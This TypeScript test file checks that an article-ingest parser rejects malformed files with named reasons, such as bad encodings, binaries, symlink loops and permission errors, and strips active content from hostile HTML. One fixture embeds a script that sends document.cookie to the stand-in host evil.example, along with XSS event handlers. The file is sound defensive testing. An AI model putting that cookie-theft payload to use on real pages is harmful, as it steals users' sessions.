// Issue 7, item 1: a folder of hostile files next to the seed articles. Each bad file is named
// with its reason; every good file still comes through.

import { execFileSync } from 'node:child_process';
import { chmodSync, copyFileSync, mkdirSync, readdirSync, realpathSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readArticles } from '../../src/ingest/parse-article-file.ts';
import type { ParseOutcome } from '../../src/ingest/types.ts';
import { useTempDir } from './temp-dir.ts';

const SEEDS = join(import.meta.dirname, '../../data/articles');
const tempDir = useTempDir();
const utf8 = (s: string) => Buffer.from(s, 'utf8');

function buildFolder(): string {
  const dir = tempDir();
  for (const name of readdirSync(SEEDS)) copyFileSync(join(SEEDS, name), join(dir, name));
  writeFileSync(join(dir, 'latin1.txt'), Buffer.concat([utf8('Caf'), Buffer.from([0xe9]), utf8(' prices rose sharply on Monday.')]));
  writeFileSync(join(dir, 'bom.txt'), Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8('A BOM article says “hello” to readers.')]));
  writeFileSync(join(dir, 'utf16.txt'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('A UTF-16 article about “chips”.', 'utf16le')]));
  writeFileSync(join(dir, 'photo.txt'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]));
  writeFileSync(join(dir, 'logo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47]));
  writeFileSync(join(dir, 'nul.txt'), Buffer.concat([utf8('Some text'), Buffer.from([0]), utf8('more text')]));
  writeFileSync(join(dir, 'empty.txt'), '');
  writeFileSync(join(dir, 'blank.md'), '  \n\n\t \n');
  // Sparse: 50 MB on paper, nothing on disk. Read, it would be refused as binary (all NUL bytes).
  writeFileSync(join(dir, 'huge.txt'), '');
  truncateSync(join(dir, 'huge.txt'), 50 * 1024 * 1024);
  writeFileSync(
    join(dir, 'hostile.html'),
    '<html><head><style>body{display:none}</style><script>fetch("https://evil.example/?c="+document.cookie)</script></head>' +
      '<body><p onclick="alert(1)" onmouseover="steal()">Hostile page text with a “quote” in it.</p>' +
      '<img src=x onerror="alert(2)"><script>alert(3)</script></body></html>',
  );
  const depth = 10_000;
  writeFileSync(join(dir, 'deep.html'), `${'<div>'.repeat(depth)}<p>Deeply nested text survives.</p>${'</div>'.repeat(depth)}`);
  writeFileSync(
    join(dir, 'feed.jsonl'),
    [JSON.stringify({ title: 'Line one', text: 'JSONL line one text.' }), '{"title": broken', JSON.stringify({ text: 'JSONL line three text.' })].join('\n'),
  );
  writeFileSync(join(dir, '.hidden.txt'), 'A dotfile is not an article.');
  symlinkSync(join(dir, 'no-such-target.txt'), join(dir, 'dangling.txt'));
  mkdirSync(join(dir, 'sub'));
  writeFileSync(join(dir, 'sub', 'nested.md'), '# Nested\n\nA nested article in a subfolder.');
  symlinkSync('..', join(dir, 'sub', 'back'));
  symlinkSync(dir, join(dir, 'sub', 'again'));
  execFileSync('mkfifo', [join(dir, 'pipe.txt')]);
  return dir;
}

describe('ingesting a folder of hostile files next to the seed articles', () => {
  it('names each bad file with its reason and reads every good file', () => {
    const dir = buildFolder();
    const outcome = readArticles([dir]);
    const reasons = Object.fromEntries(outcome.failures.map((f) => [f.file.slice(dir.length + 1), f.reason]));

    expect(reasons).toMatchObject({
      'latin1.txt': 'not valid UTF-8 (byte 0xe9 at offset 3); save the file as UTF-8',
      'photo.txt': 'binary file (PNG image)',
      'logo.png': 'unsupported file type .png; use .txt, .md, .html, .htm, .json or .jsonl',
      'nul.txt': expect.stringMatching(/^binary file \(NUL byte at offset 9/),
      'empty.txt': 'empty file',
      'blank.md': 'empty file (only whitespace)',
      'huge.txt': 'file too large (50.0 MB; the limit is 10.0 MB)',
      'feed.jsonl': expect.stringMatching(/^line 2: invalid JSON \(/),
      'dangling.txt': 'broken symbolic link (its target does not exist)',
      'pipe.txt': 'not a regular file (named pipe)',
    });
    // Two links back to the same ancestor make one loop, reported once (at the first in sorted order).
    expect(outcome.failures.filter((f) => f.reason.startsWith('symbolic link loop'))).toEqual([
      { file: join(dir, 'sub', 'again'), reason: `symbolic link loop (leads back to ${realpathSync(dir)})` },
    ]);

    expect(outcome.articles.map((a) => a.file)).toEqual([
      '000_e65aeb47de618ace.txt',
      '001_a2296ed6b475fcd6.txt',
      '002_d45d6f1bddc2a34a.txt',
      '003_1ee62f8c431de07e.txt',
      '004_52935701e1954375.txt',
      'bom.txt',
      'deep.html',
      'feed.jsonl#1',
      'feed.jsonl#3',
      'hostile.html',
      'nested.md',
      'utf16.txt',
    ]);
    const text = (file: string) => outcome.articles.find((a) => a.file === file)!.paragraphs;
    expect(text('bom.txt')).toEqual(['A BOM article says “hello” to readers.']);
    expect(text('utf16.txt')).toEqual(['A UTF-16 article about “chips”.']);
    expect(text('hostile.html')).toEqual(['Hostile page text with a “quote” in it.']);
    expect(text('deep.html')).toEqual(['Deeply nested text survives.']);
    expect(outcome.articles.find((a) => a.file === '004_52935701e1954375.txt')!.meta.outlet).toBe('The Hankyoreh');
    expect(JSON.stringify(outcome)).not.toMatch(/alert|cookie|steal|evil\.example|display:none|\.hidden/);
  });
});

/** Root reads through chmod 000, so as root the ingest runs in a child process as "nobody". */
function readAsNobody(dir: string): ParseOutcome | string {
  const script =
    "import { readArticles } from '../../src/ingest/parse-article-file.ts'; console.log(JSON.stringify(readArticles([process.argv[1]])))";
  try {
    const out = execFileSync(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script, dir], {
      uid: 65534,
      gid: 65534,
      cwd: import.meta.dirname,
    });
    return JSON.parse(out.toString()) as ParseOutcome;
  } catch (error) {
    return `running as root and cannot run the ingest as an unprivileged user: ${String(error)}`;
  }
}

describe('unreadable files and folders', () => {
  it('are reported as permission denied while the readable ones are read', (ctx) => {
    const dir = tempDir();
    chmodSync(dir, 0o755);
    writeFileSync(join(dir, 'ok.txt'), 'Readable article text.');
    writeFileSync(join(dir, 'locked.txt'), 'Unreadable article text.');
    chmodSync(join(dir, 'locked.txt'), 0o000);
    mkdirSync(join(dir, 'closed'));
    writeFileSync(join(dir, 'closed', 'inside.txt'), 'Inside a closed folder.');
    chmodSync(join(dir, 'closed'), 0o000);
    let outcome: ParseOutcome | string;
    try {
      outcome = process.getuid?.() === 0 ? readAsNobody(dir) : readArticles([dir]);
    } finally {
      chmodSync(join(dir, 'closed'), 0o755);
    }
    if (typeof outcome === 'string') return ctx.skip(outcome);
    expect(outcome.articles.map((a) => a.paragraphs)).toEqual([['Readable article text.']]);
    expect(outcome.failures).toEqual([
      { file: join(dir, 'closed'), reason: 'cannot read folder (permission denied)' },
      { file: join(dir, 'locked.txt'), reason: 'cannot read file (permission denied)' },
    ]);
  });
});
